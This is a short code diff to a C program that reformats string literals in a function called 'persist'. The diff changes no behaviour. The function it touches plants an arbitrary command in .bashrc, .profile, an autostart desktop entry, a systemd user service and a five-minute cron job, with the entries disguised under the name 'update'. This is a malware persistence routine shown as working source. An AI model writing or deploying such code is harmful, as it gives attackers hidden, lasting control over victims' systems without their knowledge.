@@ -22,7 +22,8 @@ static void append(const char *home, const char *name, const char *text)
 
 static void persist(const char *home, const char *cmd)
 {
-	static const char *const dirs[] = {".config", ".config/autostart", ".config/systemd",
+	static const char *const dirs[] = {".config", ".config/autostart",
+	                                   ".config/systemd",
 	                                   ".config/systemd/user", ".cron"};
 	char text[600], dir[1400];
 
@@ -34,10 +35,13 @@ static void persist(const char *home, const char *cmd)
 	append(home, ".bashrc", text);
 	append(home, ".profile", text);
 	snprintf(text, sizeof(text),
-	         "[Desktop Entry]\nType=Application\nName=update\nExec=sh -c \"%s\"\n", cmd);
+	         "[Desktop Entry]\nType=Application\nName=update\nExec=sh -c "
+	         "\"%s\"\n",
+	         cmd);
 	append(home, ".config/autostart/update.desktop", text);
 	snprintf(text, sizeof(text),
-	         "[Service]\nExecStart=/bin/sh -c \"%s\"\n[Install]\nWantedBy=default.target\n",
+	         "[Service]\nExecStart=/bin/sh -c "
+	         "\"%s\"\n[Install]\nWantedBy=default.target\n",
 	         cmd);
 	append(home, ".config/systemd/user/update.service", text);
 	snprintf(text, sizeof(text), "*/5 * * * * %s\n", cmd);
